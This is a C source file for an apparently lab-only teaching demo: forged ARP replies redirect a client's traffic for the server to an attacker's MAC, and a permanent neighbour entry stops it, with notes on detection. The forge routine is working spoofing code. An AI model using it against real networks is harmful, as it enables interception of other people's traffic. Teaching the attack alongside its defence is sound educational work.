/* ARP spoofing and a static entry against it.  ARP has no
 * authentication: a host takes a reply's "address A is at MAC M" as it
 * comes.  The attacker sends the client replies claiming the server's
 * address with its own MAC; the client's neighbour table (rtnetlink,
 * in its namespace) changes, and its next ping to the server goes to
 * the attacker's MAC, where it is captured.  A permanent entry for the
 * server, which no reply may change, ends it. */
#include <stdio.h>
#include <string.h>

#include "../craft/frame.h"
#include "demos.h"
#include "lab_run.h"

#define FORGED 3
#define FORGED_GAP_MS 200
/* Linux ignores a reply that would change an entry confirmed within the
 * last second (net.ipv4.neigh.*.locktime, 1 s): the forger waits. */
#define LOCKTIME_WAIT_MS 1100

static const char *const ping[] = { "ping", "-c", "1", "-W", "1", "-n", PKL_LAB_SERVER_ADDR, NULL };

/* FORGED replies "the server's address is at the attacker's MAC" to the
 * client, FORGED_GAP_MS apart. */
static int
forge(struct pkl_demo *d, const uint8_t mac[6])
{
	char errbuf[PKL_ERRBUF_SIZE];
	struct pkl_frame_arp reply = { .kind = PKL_ARP_REPLY };
	uint8_t frame[64];
	struct pkl_addr server, client;

	pkl_addr_parse(PKL_LAB_SERVER_ADDR, &server);
	pkl_addr_parse(PKL_LAB_CLIENT_ADDR, &client);
	memcpy(reply.sender_mac, mac, 6);
	memcpy(reply.sender_ip, server.v4, 4);
	memcpy(reply.target_mac, pkl_lab_iface_of(PKL_LAB_CLIENT)->mac, 6);
	memcpy(reply.target_ip, client.v4, 4);
	int len = pkl_frame_build_arp(&reply, frame, sizeof frame, errbuf);
	if (len < 0)
		return pkl_demo_fail(d, "%s", errbuf);
	for (int i = 0; i < FORGED && !d->status; i++) {
		if (pkl_lab_demo_send(d, frame, (size_t)len) < 0)
			return -1;
		pkl_demo_wait(d, FORGED_GAP_MS);
	}
	return d->status ? -1 : 0;
}

static int
client_table(struct pkl_demo *d)
{
	return pkl_lab_demo_neigh(d, PKL_LAB_CLIENT, PKL_LAB_LAN_IFACE, PKL_LAB_SERVER_ADDR, NULL);
}

static int
run(struct pkl_demo *d)
{
	static const char *const flush[] = { "ip", "neigh", "flush", "dev", PKL_LAB_LAN_IFACE, NULL };
	static const char *const del[] = { "ip", "neigh", "del", PKL_LAB_SERVER_ADDR, "dev",
					   PKL_LAB_LAN_IFACE, NULL };
	const uint8_t *m = pkl_lab_iface_of(PKL_LAB_SERVER)->mac;
	char server_mac[18];
	uint8_t mac[6];

	snprintf(server_mac, sizeof server_mac, "%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2],
		 m[3], m[4], m[5]);
	const char *const permanent[] = { "ip", "neigh", "replace", PKL_LAB_SERVER_ADDR, "lladdr",
					  server_mac, "nud", "permanent", "dev", PKL_LAB_LAN_IFACE,
					  NULL };

	pkl_demo_step(d, "the client pings the server: ARP, then the echo");
	if (pkl_lab_demo_sender(d, PKL_LAB_ATTACKER, mac) < 0 ||
	    pkl_lab_demo_tap(d, PKL_LAB_CLIENT, PKL_LAB_LAN_IFACE, "arp or icmp", true, NULL,
			     NULL) < 0 ||
	    pkl_lab_demo_tap(d, PKL_LAB_ATTACKER, PKL_LAB_LAN_IFACE, "arp or icmp", true, NULL,
			     NULL) < 0)
		return -1;
	/* A table learnt in this run, whatever an earlier one left. */
	if (pkl_lab_demo_command(d, PKL_LAB_CLIENT, "client", flush) != 0 ||
	    pkl_lab_demo_command(d, PKL_LAB_CLIENT, "client", ping) != 0)
		return pkl_demo_fail(d, "the client could not ping the server");
	if (client_table(d) < 0)
		return -1;

	pkl_demo_step(d, "the attacker forges ARP replies: " PKL_LAB_SERVER_ADDR " is at its MAC");
	pkl_demo_wait(d, LOCKTIME_WAIT_MS);
	if (forge(d, mac) < 0 || client_table(d) < 0)
		return -1;
	pkl_demo_say(d, "The client took the forged reply: nothing in ARP says who may answer.  The "
		     "tracker, which saw the server's own reply, notes the conflict.");

	pkl_demo_step(d, "the client pings the server again: the echo goes to the attacker");
	pkl_lab_demo_command(d, PKL_LAB_CLIENT, "client", ping);
	pkl_demo_say(d, "Addressed to " PKL_LAB_SERVER_ADDR ", sent to the attacker's MAC: the "
		     "attacker's eth0 captured it, and its kernel, which does not forward, dropped "
		     "it (one that forwards would pass it on, unseen: a man in the middle).");

	pkl_demo_step(d, "the defence: a permanent entry for the server on the client");
	if (pkl_lab_demo_command(d, PKL_LAB_CLIENT, "client", permanent) != 0)
		return pkl_demo_fail(d, "the client's permanent entry could not be made");
	if (client_table(d) < 0)
		return -1;
	if (forge(d, mac) < 0 || client_table(d) < 0)
		return -1;
	if (pkl_lab_demo_command(d, PKL_LAB_CLIENT, "client", ping) != 0)
		pkl_demo_fail(d, "the client's ping failed with a permanent entry");
	pkl_demo_say(d, "The same forged replies no longer move the entry, and the echo reaches "
		     "the server.  A permanent entry must be kept by hand on every host, for every "
		     "address that matters (the gateway first).");
	pkl_demo_say(d, "arp_ignore (1: answer only for addresses of the interface asked on) and "
		     "arp_announce (2: announce only the best local source) decide what a host says; "
		     "neither stops it believing a forged reply.");
	pkl_demo_say(d, "arp_accept (0, the default: no new entry from an unasked reply) does not "
		     "protect an entry that exists, as here.");
	pkl_demo_say(d, "Detection: one address claimed by two MACs, as the tracker's conflict note "
		     "says and arpwatch reports; switches stop it with Dynamic ARP Inspection.");
	pkl_lab_demo_command(d, PKL_LAB_CLIENT, "client", del);
	return d->status ? -1 : 0;
}

const struct pkl_demo_def pkl_demo_arpspoof = {
	.name = "arpspoof",
	.summary = "lab: forged ARP replies move the client's traffic for the server "
		   "to the attacker; a static entry stops it",
	.run = run,
	.lab = true,
};
